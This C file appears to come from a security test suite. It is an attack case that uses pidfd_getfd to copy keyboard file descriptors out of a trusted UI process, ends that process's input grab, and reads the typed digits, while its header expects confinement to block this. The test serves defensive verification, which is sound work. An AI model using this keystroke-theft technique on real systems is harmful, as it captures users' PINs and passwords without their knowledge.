// SPDX-License-Identifier: Apache-2.0
/*
 * Copies the open keyboards out of the trusted user interface, ends the grab that they
 * hold, and reads what is typed.
 *
 * attack: pidfd_getfd
 * class: process
 * when: session
 * judge: keys
 * defence: confinement
 * why: pidfd_getfd(2) is denied, CAP_SYS_PTRACE gone; the module's fd answers its own process
 *      only, whoever else has it
 */
#include <linux/input.h>
#include <stdio.h>
#include <sys/ioctl.h>
#include <unistd.h>

#include "evdev.h"
#include "process.h"
#include "report.h"

/* How many grabs were ended. */
static int end_grabs(pid_t pid)
{
	char path[32];
	int i, fd, count = 0;

	for (i = 0; i < EVDEV_MAX; i++) {
		snprintf(path, sizeof(path), "/dev/input/event%d", i);
		fd = process_steal_fd(pid, path);
		if (fd < 0)
			continue;
		count += ioctl(fd, EVIOCGRAB, 0) == 0;
		close(fd);
	}
	return count;
}

int main(void)
{
	char digits[256] = "";
	int fds[EVDEV_MAX], ended;
	size_t count;
	pid_t pid;

	attack_init();
	count = evdev_open_keyboards(fds);
	attack_ready();
	pid = process_wait_tui();
	if (!pid)
		attack_failed("it sees no tconn-tui");
	ended = end_grabs(pid);
	if (!ended)
		attack_failed("no keyboard of process %d could be copied", pid);
	while (!attack_stopping())
		if (evdev_collect(fds, count, 100, digits, sizeof(digits)))
			break;
	attack_digits(digits);
	attack_done();
}
